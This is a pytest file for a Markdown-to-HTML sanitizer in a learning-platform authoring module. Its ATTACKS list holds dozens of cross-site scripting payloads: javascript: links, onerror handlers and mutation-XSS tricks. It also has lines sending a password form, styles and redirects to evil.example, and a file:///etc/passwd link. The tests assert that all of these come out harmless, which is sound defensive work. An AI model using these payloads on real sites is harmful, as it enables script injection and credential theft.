"""Whatever is written, the page gets a few harmless tags and links that lead to the web."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.authoring.markdown import TAGS, blocks, plain, to_html, to_plain


class _Page(HTMLParser):
    """Reads HTML as a browser would meet it and keeps tags and attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Page(html).found:
        assert tag in TAGS
        assert set(attributes) <= {"href", "title", "rel", "start", "alt"}  # a picture without an address is its words
        assert tag != "a" or attributes["rel"] == "noopener noreferrer"
        assert (attributes.get("href") or "http://").lower().startswith(("http://", "https://"))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("## 进门", "<h2>进门</h2>\n"),
        ("先**看着他**。", "<p>先<strong>看着他</strong>。</p>\n"),
        ("- 一\n- 二", "<ul>\n<li>一</li>\n<li>二</li>\n</ul>\n"),
        ("3. 三", '<ol start="3">\n<li>三</li>\n</ol>\n'),
        ("> 场景", "<blockquote>\n<p>场景</p>\n</blockquote>\n"),
        ("先看着他，\n再开口。", "<p>先看着他，再开口。</p>\n"),
        ("**先看**\n再说", "<p><strong>先看</strong>再说</p>\n"),
        ("hello\nworld", "<p>hello\nworld</p>\n"),
        ("一  \n二", "<p>一<br>\n二</p>\n"),
        ("<b>重</b>点", "<p>&lt;b&gt;重&lt;/b&gt;点</p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        (
            "[资料](https://example.org/a)",
            '<p><a href="https://example.org/a" rel="noopener noreferrer">资料</a></p>\n',
        ),
    ],
)
def test_markdown_becomes_html(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=password></form>',
    "<b onclick=alert(1)>x</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](mailto:a@example.org)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    "<javascript:alert(1)>",
    "<https://example.org/\"onmouseover=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]  # fmt: skip


@pytest.mark.parametrize("markdown", ATTACKS)
def test_attacks_come_out_harmless(markdown: str) -> None:
    assert_harmless(to_html(markdown))


@settings(deadline=None)
@given(st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20)), max_size=4))
def test_any_text_comes_out_harmless(pieces: list[str]) -> None:
    assert_harmless(to_html("".join(pieces)))
    assert_harmless(to_html("\n\n".join(pieces)))


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("", ""),
        ("## 进门\n\n先**看着他**，\n再[开口](https://example.org)。", "进门\n先看着他，再开口。"),
        ("- 一\n- 二\n  - 三", "一\n二\n三"),
        ("> 场景\n>\n> 后来", "场景\n后来"),
        ("hello\nworld", "hello world"),
        ("一  \n二", "一\n二"),
        ("`码` &amp; \\*", "码 & *"),
        ("    空四格", "空四格"),
        ("---", ""),
        ("<b>x</b>", "<b>x</b>"),
    ],
)
def test_plain_text_is_the_words_alone(markdown: str, words: str) -> None:
    assert to_plain(markdown) == words


@settings(deadline=None)
@given(st.text(alphabet="字a#->*`[]()<&!|1. \n\t", max_size=120))
def test_blocks_hold_the_whole_text(markdown: str) -> None:
    assert "\n".join(filter(None, map(plain, blocks(markdown)))) == to_plain(markdown)


@pytest.mark.parametrize("unit", ["[", "![", "*a ", "**a", "`a``", "> ", "- ", "<a ", "&", "a\n", "[a](b)"])
def test_long_nonsense_is_no_burden(unit: str) -> None:
    assert_harmless(to_html(unit * (20_000 // len(unit))))
